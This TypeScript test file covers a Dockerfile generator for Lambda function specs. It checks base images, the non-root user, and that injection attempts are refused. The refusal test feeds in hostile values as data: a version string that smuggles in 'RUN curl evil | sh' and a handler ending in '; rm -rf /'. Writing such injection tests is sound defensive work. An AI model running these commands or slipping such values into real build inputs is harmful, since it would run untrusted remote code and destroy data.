import { LambdaFunctionSpec } from '../api';
import { dockerfileFor, DockerfileError } from './dockerfile';

const spec = (runtime: Partial<LambdaFunctionSpec['runtime']>): LambdaFunctionSpec => ({
  source: { inline: { code: 'x' } },
  runtime: { language: 'nodejs', version: '20', ...runtime },
});

test('one template per runtime, on the version the spec asks for', () => {
  expect(dockerfileFor(spec({}))).toMatch(/^FROM node:20-alpine$/m);
  expect(dockerfileFor(spec({ language: 'python', version: '3.12' }))).toMatch(/^FROM python:3\.12-alpine$/m);
  const go = dockerfileFor(spec({ language: 'go', version: '1.22', handler: 'main.Handle' }));
  expect(go).toMatch(/^FROM golang:1\.22-alpine AS build$/m);
  expect(go).toContain('build.sh /function Handle /out/function');
  for (const file of [dockerfileFor(spec({})), go]) {
    expect(file).toMatch(/^USER 65532:65532$/m);
  }
});

test('values that could inject into the Dockerfile are refused, whatever the CRD let through', () => {
  expect(() => dockerfileFor(spec({ version: '20\nRUN curl evil | sh' }))).toThrow(DockerfileError);
  expect(() => dockerfileFor(spec({ version: '20-alpine AS x' }))).toThrow(DockerfileError);
  expect(() => dockerfileFor(spec({ language: 'go', version: '1.22', handler: 'main.handle; rm -rf /' }))).toThrow(
    DockerfileError
  );
  expect(() => dockerfileFor(spec({ language: 'go', version: '1.22', handler: 'main.lowercase' }))).toThrow(
    /exported function/
  );
});
